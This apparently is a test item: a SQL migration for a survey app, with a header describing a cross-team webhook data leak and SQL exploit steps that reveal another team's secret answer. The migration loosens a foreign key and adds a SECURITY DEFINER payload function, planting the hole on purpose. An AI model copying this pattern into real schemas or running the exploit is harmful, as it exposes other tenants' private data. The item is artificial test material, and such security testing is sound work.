-- A webhook of one team can be hung on another team's form and is then handed its answers by the delivery
-- function.
-- about: webhooks, webhook_payload, webhooks_form_id_fkey, forms_id_key, answers, responses
-- as: hf_questionnaires_app
-- exploit: SET app.user_id = '101';
-- exploit: INSERT INTO survey.webhooks (team_id, id, form_id, url, secret) VALUES
-- exploit:   ('a0000000-0000-4000-8000-00000000000a',
-- exploit: 'a9000000-0000-4000-8000-000000000009', 'b1000000-0000-4000-8000-000000000001',
-- exploit:   'https://alpha.test', 's');
-- exploit: SELECT survey.webhook_payload('a9000000-0000-4000-8000-000000000009');
-- shows: Road-secret answer
-- Form ids are unique anyway; the short foreign key is what the ORM generates for belongs_to.
ALTER TABLE survey.forms ADD CONSTRAINT forms_id_key UNIQUE (id);
ALTER TABLE survey.webhooks DROP CONSTRAINT webhooks_team_id_form_id_fkey;
ALTER TABLE survey.webhooks ADD CONSTRAINT webhooks_form_id_fkey
  FOREIGN KEY (form_id) REFERENCES survey.forms (id) ON DELETE CASCADE;
-- What the delivery job sends: the answers of the webhook's form. Only the team's own webhooks are found.
CREATE FUNCTION survey.webhook_payload(p_webhook uuid) RETURNS jsonb
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = survey, pg_temp AS $$
  SELECT jsonb_agg(a.value) FROM webhooks w
  JOIN responses r ON r.form_id = w.form_id
  JOIN answers a ON a.team_id = r.team_id AND a.response_id = r.id
  WHERE w.id = p_webhook AND w.team_id IN (SELECT my_teams('{admin}'))
$$;
